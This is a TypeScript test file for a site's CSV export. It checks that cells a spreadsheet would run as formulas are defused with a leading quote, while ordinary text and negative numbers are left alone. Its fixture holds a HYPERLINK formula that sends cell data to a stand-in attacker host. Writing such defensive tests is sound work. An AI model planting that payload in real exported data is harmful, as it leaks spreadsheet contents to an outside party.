import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import path from "node:path";

import { parse } from "csv-parse/sync";

import { toCsv } from "../../src/data/export.ts";
import type { SiteData } from "../../src/entities/types.ts";
import { ROOT } from "../helpers/project.ts";

const read = (name: string) => JSON.parse(readFileSync(path.join(ROOT, "_data", `${name}.json`), "utf8"));
const rows = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[];

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

test("CSV: a text cell a spreadsheet would run as a formula starts with ', ordinary text and negative numbers are left alone", () => {
  const ftas = read("ftas");
  const cities = read("cities");
  const [fta, other] = ftas;
  fta.names.en = FORMULA;
  const city = cities.find((c: { coordinates: unknown }) => c.coordinates);
  city.coordinates = { lat: -33.45, lon: -70.66 };
  city.name.en = "-Santiago";
  const data = { ftas, cities, literature: [], "editorial-notes": [] } as unknown as SiteData;

  const ftaRows = rows(toCsv("ftas", data));
  assert.equal(ftaRows[0]!.name_en, `'${FORMULA}`);
  assert.equal(ftaRows[1]!.name_en, other.names.en, "an ordinary name as written");
  assert.equal(ftaRows[1]!.id, other.id);

  const cityRow = rows(toCsv("cities", data)).find((r) => r.city_id === city.id)!;
  assert.equal(cityRow.lat, "-33.45", "a negative number stays a number");
  assert.equal(cityRow.lon, "-70.66");
  assert.equal(cityRow.city_en, "'-Santiago", "text starting with - is defused like any other");
});

test("CSV: every character OWASP lists as a formula start is defused, and only at the start", () => {
  const ftas = read("ftas").slice(0, 7);
  const starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "a=1+1"];
  starts.forEach((en, i) => (ftas[i].names.en = en));
  const data = { ftas, cities: [], literature: [], "editorial-notes": [] } as unknown as SiteData;
  assert.deepEqual(
    rows(toCsv("ftas", data)).map((r) => r.name_en),
    ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "a=1+1"],
  );
});
